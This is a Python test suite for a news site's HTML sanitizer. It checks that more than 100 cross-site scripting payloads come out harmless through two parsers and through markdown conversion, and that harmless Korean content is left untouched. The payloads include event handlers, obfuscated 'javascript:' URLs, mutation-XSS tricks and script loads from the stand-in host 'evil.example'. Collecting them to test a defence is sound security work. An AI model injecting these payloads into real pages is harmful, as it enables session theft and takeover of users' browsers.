"""Attacks on a reader, and what must come through unharmed. Every output is read again by two parsers."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import html as lxml_html
from pygments.token import STANDARD_TYPES

from newsdao.content import kramdown, sanitize

ATTRIBUTES = set().union(*sanitize.ATTRIBUTES.values(), *(set(names) for names in sanitize.VALUES.values()))
SCHEME = re.compile(r"^[a-z][a-z0-9+.\-]*:", re.IGNORECASE)
BLANKS = re.compile(r"[\x00-\x20\x7f-\xa0\u2028\u2029]")

ATTACKS = [
    # handlers, plain and oddly written
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src='/a.jpg'onload=alert(1)>",
    "<p onclick=alert(1)>글</p>",
    "<p ONMOUSEOVER=\"alert(1)\">글</p>",
    "<b onfocus=alert(1) autofocus tabindex=1>글</b>",
    "<body onload=alert(1)>글",
    "<details open ontoggle=alert(1)>글</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)><option>글</select>",
    "<marquee onstart=alert(1)>글</marquee>",
    "<p\x0bonclick=alert(1)>글</p>",
    "<p/onclick=alert(1)>글</p>",
    "<p onclick\n=\nalert(1)>글</p>",
    "<img src=/a.jpg alt=\"`\" onerror=\"alert(1)\">",
    "<a href=/x style=animation-name:x onanimationstart=alert(1)>글</a>",
    # addresses
    "<a href=javascript:alert(1)>글</a>",
    "<a href=' JaVaScRiPt:alert(1)'>글</a>",
    "<a href='java\tscript:alert(1)'>글</a>",
    "<a href='java\nscript:alert(1)'>글</a>",
    "<a href='&#106;avascript:alert(1)'>글</a>",
    "<a href='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)'>글</a>",
    "<a href='java&Tab;script:alert(1)'>글</a>",
    "<a href='javascript&colon;alert(1)'>글</a>",
    "<a href='\x01javascript:alert(1)'>글</a>",
    "<a href='\u2028javascript:alert(1)'>글</a>",
    "<a href='vbscript:msgbox(1)'>글</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>글</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>글</a>",
    "<a href='blob:https://a.example/1'>글</a>",
    "<a href='view-source:javascript:alert(1)'>글</a>",
    "<a href='feed:javascript:alert(1)'>글</a>",
    "<a href='file:///etc/passwd'>글</a>",
    "<a xlink:href=javascript:alert(1)>글</a>",
    "<img src=javascript:alert(1)>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img src=https://tracker.example/pixel.gif>",
    "<img src=//tracker.example/pixel.gif>",
    "<img src='/\\tracker.example/pixel.gif'>",
    "<img src='/\t/tracker.example/pixel.gif'>",
    "<img src=/a.jpg srcset='https://tracker.example/a.jpg 2x'>",
    "<picture><source srcset=https://tracker.example/a.jpg><img src=/a.jpg></picture>",
    "<table background=https://tracker.example/a.gif><tr><td>글</td></tr></table>",
    "<blockquote cite=javascript:alert(1)>글</blockquote>",
    "<a href=/x ping=https://tracker.example>글</a>",
    "<a href=/x target=_blank download>글</a>",
    "<form action=javascript:alert(1)><button formaction=javascript:alert(1)>글</button></form>",
    "<isindex action=javascript:alert(1) type=submit>",
    # elements that run, load or take over the page
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x20type='text/javascript'>alert(1)</script\x0b>",
    "<SCRIPT/XSS SRC=//evil.example/x.js></SCRIPT>",
    "<<script>alert(1)//<</script>",
    "<script>alert(1)",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=import href=//evil.example/x.html>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>li{list-style-image:url(javascript:alert(1))}</style>",
    "<p style='background:url(javascript:alert(1))'>글</p>",
    "<p style='position:fixed;inset:0'>글</p>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    "<template><img src=x onerror=alert(1)></template>",
    "<portal src=//evil.example></portal>",
    "<x-y is=evil-element onclick=alert(1)>글</x-y>",
    # what mutates when it is parsed again
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>글</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1)><a>글</a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id=\"</style><img src=x onerror=alert(1)>\">",
    "<svg><foreignObject><p><style><!--</style><img src=x onerror=alert(1)>--></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    "<math><mi xlink:href=\"data:x,<script>alert(1)</script>\">글</mi></math>",
    "<math><annotation-xml encoding=text/html><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>",
    "<noframes><p title=\"</noframes><img src=x onerror=alert(1)>\"></noframes>",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
    "<title><img title=\"</title><img src=x onerror=alert(1)>\"></title>",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<iframe><img title=\"</iframe><img src=x onerror=alert(1)>\"></iframe>",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "<table><td><style><!--</style><img src=x onerror=alert(1)>--></td></table>",
    "<a><table><a href=javascript:alert(1)>글</a></table></a>",
    "<b><p title='</b><script>alert(1)</script>'>글",
    # comments, declarations, broken tags
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><?php alert(1) ?><img src=x onerror=alert(1)>",
    "<!doctype html [<!entity x '<script>alert(1)</script>'>]>&x;",
    "<img src=x onerror=alert(1)//",
    "<img src=\"x` `<script>alert(1)</script>\"` `>",
    "<div title='\"><img src=x onerror=alert(1)>'>글</div>",
    "</p onclick=alert(1)><img src=x onerror=alert(1)>",
    "<\x00script>alert(1)</script>",
    "<im\x00g src=x onerror=alert(1)>",
    "\ufeff<script>alert(1)</script>",
    # names that shadow a page's own
    "<img name=cookie src=/a.jpg>",
    "<a id=location name=location>글</a>",
    "<p id=__proto__>글</p>",
    "<form id=documentElement><input name=attributes></form>",
    "<p id='s-x' class='site-header js-hook'>글</p>",
    "<p lang='x\" onclick=alert(1)'>글</p>",
    "<p dir='rtl;onclick=alert(1)'>글</p>",
    "<details open='x' onclick=alert(1) ontoggle=alert(1)><summary onclick=alert(1)>글</summary></details>",
    "<ruby onclick=alert(1)>글<rt><script>alert(1)</script></rt></ruby>",
    "<bdo dir=rtl onclick=alert(1) style='position:fixed'>글</bdo>",
    "<font color=red onclick=alert(1)>글</font>",
    "<pre data-ke-language='\"><script>alert(1)</script>'>글</pre>",
    "<div class='table-scroll' role=dialog aria-modal=true contenteditable>글</div>",
]  # fmt: skip

HARMLESS = [
    "<p>한글과 <strong>굵은</strong> 글, <em>강조</em>, <code>a &lt; b</code></p>",
    '<p><a href="https://example.kr/?a=1&amp;b=2" rel="noopener nofollow">밖</a> <a href="/news/1/">안</a></p>',
    '<p><a href="mailto:a@example.kr">편지</a> <a href="tel:+82-2-000-0000">전화</a> <a href="#s-둘">아래</a></p>',
    '<h2 id="s-둘">둘</h2>',
    '<figure><img src="/assets/a.jpg" alt="항구" width="720" height="405" loading="lazy" decoding="async"></figure>',
    "<figure><figcaption>해온항</figcaption></figure>",
    '<table><caption>표</caption><thead><tr><th scope="col">가</th></tr></thead></table>',
    '<table><tbody><tr><td colspan="2" class="align-center">나</td></tr></tbody></table>',
    '<ol start="3"><li>셋</li></ol>',
    "<blockquote><p>말</p></blockquote>",
    '<pre><code class="language-python">print(1)\n</code></pre>',
    '<p><time datetime="2024-07-01T09:00:00+09:00">7월 1일</time> <del>옛</del> <ins>새</ins> <mark>표시</mark></p>',
    "<dl><dt>말</dt><dd>뜻</dd></dl>",
    '<p dir="rtl" lang="fa-IR">سلام <bdi>해온</bdi> <bdo dir="ltr">123</bdo></p>',
    '<details open=""><summary>더 보기</summary><p>안</p></details>',
    "<p><ruby>海溫<rp>(</rp><rt>해온</rt><rp>)</rp></ruby></p>",
    '<p><mark class="mark-yellow">가</mark> <strong class="tone-red">나</strong></p>',
    '<p><span class="math" dir="ltr">\\(a_1\\)</span></p><div class="math" dir="ltr">\\[b\\]</div>',
    '<ul><li class="task">☐ 하나</li></ul>',
    '<pre><code class="language-python"><span class="kn">import</span> os</code></pre>',
]


def violations(html: str) -> list[str]:
    """Whatever stands in the output that the policy doesn't allow, as each of two parsers sees it."""
    reader = _Reader()
    reader.feed(html)
    reader.close()
    tree = lxml_html.fragment_fromstring(html or " ", create_parent="article")
    seen = [*reader.seen, *((str(e.tag), dict(e.attrib)) for e in tree.iter() if e.tag != "article")]
    return [wrong for tag, attributes in seen for wrong in _wrong(tag, attributes)] + reader.markup


class _Reader(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.seen: list[tuple[str, dict[str, str | None]]] = []
        self.markup: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.append((tag, dict(attrs)))

    def handle_comment(self, data: str) -> None:
        self.markup.append(f"<!--{data}-->")

    def handle_decl(self, decl: str) -> None:
        self.markup.append(f"<!{decl}>")

    def handle_pi(self, data: str) -> None:
        self.markup.append(f"<?{data}>")


def _wrong(tag: str, attributes: dict[str, str | None]) -> list[str]:
    found = [f"<{tag}>"] if tag not in sanitize.TAGS else []
    for name, value in attributes.items():
        if name not in ATTRIBUTES:
            found.append(f"<{tag} {name}>")
        if name in {"href", "src"} and (scheme := SCHEME.match(BLANKS.sub("", value or ""))):
            found += [f"{name}={value}"] if scheme[0][:-1].lower() not in sanitize.SCHEMES else []
        if name == "src" and not re.fullmatch(r"/(?![/\\])[^\s\\]*", value or ""):
            found.append(f"src={value}")
        if name == "dir" and value not in {"rtl", "ltr", "auto"}:
            found.append(f"dir={value}")
        if name == "lang" and not re.fullmatch(r"[A-Za-z]{2,8}(-[A-Za-z0-9]{1,8})*", value or ""):
            found.append(f"lang={value}")
        if name == "open" and value:
            found.append(f"open={value}")
        if name == "id" and not (value or "").startswith("s-"):
            found.append(f"id={value}")
    return found


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_dangerous_is_left_of_an_attack(attack: str) -> None:
    assert violations(sanitize.clean(attack)) == []


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_dangerous_is_left_of_an_attack_written_in_markdown(attack: str) -> None:
    for source in (attack, f"글 {attack} 글", f"- {attack}", f"<div markdown='1'>\n{attack}\n</div>"):
        assert violations(sanitize.clean(kramdown.to_html(source))) == []


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_was_cleaned_stays_as_it_is_when_cleaned_again(attack: str) -> None:
    once = sanitize.clean(attack)
    assert sanitize.clean(once) == once


def test_there_are_enough_attacks_to_speak_of() -> None:
    assert len(set(ATTACKS)) >= 100


@pytest.mark.parametrize(
    "markdown",
    [
        "[글](javascript:alert(1))",
        "![글](javascript:alert(1))",
        "<javascript:alert(1)>",
        "[글][1]\n\n[1]: javascript:alert(1)",
        "[글](/a){: onclick='alert(1)'}",
        "글\n{: style='position:fixed' onclick='alert(1)' #location}",
    ],
)
def test_markdown_s_own_links_and_attributes_are_no_way_in(markdown: str) -> None:
    assert violations(sanitize.clean(kramdown.to_html(markdown))) == []


@pytest.mark.parametrize("html", HARMLESS)
def test_what_is_harmless_is_not_touched(html: str) -> None:
    assert violations(html) == []
    assert "".join(sorted(sanitize.clean(html))) == "".join(sorted(html))  # the order of attributes may differ


def test_the_same_text_always_gives_the_same_bytes() -> None:
    html = '<img loading="lazy" height="2" alt="가" decoding="async" width="1" src="/a.jpg" title="나" class="figure">'
    assert len({sanitize.clean(html) for _ in range(30)}) == 1


@pytest.mark.parametrize(
    "text",
    [
        "<자료출처=정책 www.example.kr>",
        "‹자료출처=해온시청>",
        "<KBS 뉴스9>",
        "<서린 기자>",
        "3 < 5 그리고 7 > 2",
        "<표 1>",
    ],
)
def test_words_between_angle_brackets_are_no_tags(text: str) -> None:
    assert lxml_html.fromstring(f"<p>{sanitize.clean(text)}</p>").text_content() == text


def test_of_short_classes_only_pygments_own_are_kept_and_only_on_spans() -> None:
    names = sorted(set(STANDARD_TYPES.values()) - {""})
    html = "".join(f'<span class="{name}">글</span>' for name in names)
    assert sanitize.clean(html) == html
    assert sanitize.clean('<span class="zz kx js">글</span><p class="k">글</p>') == "<span>글</span><p>글</p>"


def test_a_direction_and_a_language_that_are_none_are_taken_off() -> None:
    html = '<p dir="RTL" lang="fa_IR">가</p><p dir="up" lang="한국말">나</p>'
    assert sanitize.clean(html) == '<p dir="rtl" lang="fa-IR">가</p><p>나</p>'


def test_html_that_was_never_closed_comes_out_closed() -> None:
    assert sanitize.clean("<div><b>가<p>나<ul><li>다") == (
        "<div><b>가<p>나</p><ul><li>다</li></ul></b></div>"
    )  # as HTML's own rules close it


def test_an_unclosed_script_hides_nothing_that_follows() -> None:
    assert "본문 끝" in sanitize.clean("<p>앞 <script> 뒤</p><p>본문 끝</p>")


def test_line_breaks_at_the_start_of_code_do_not_wear_away() -> None:
    once = sanitize.clean("<pre>\n\n\n\n\n\n\n\n가\n나</pre>")
    assert once == "<pre>가\n나</pre>"


def test_lone_surrogates_and_control_characters_are_taken_out() -> None:
    assert sanitize.clean("가\ud800나\x00다\x08라\u202e마") == "가나다라마"


SNIPPETS = (
    "< > & \" ' = / <!-- --> <b> </b> <p> </p> <a_href= <table> <td> </table> <pre> <svg> <math> <style> </style> <x 가"
)
PIECES = st.sampled_from([*ATTACKS, *HARMLESS, " ", "\n", *(piece.replace("_", " ") for piece in SNIPPETS.split())])


@settings(max_examples=300, deadline=None)
@given(st.one_of(st.text(), st.lists(st.one_of(PIECES, st.text(max_size=6)), max_size=12).map("".join)))
def test_whatever_goes_in_only_allowed_html_comes_out_and_stays(text: str) -> None:
    once = sanitize.clean(text)
    assert violations(once) == []
    assert sanitize.clean(once) == once
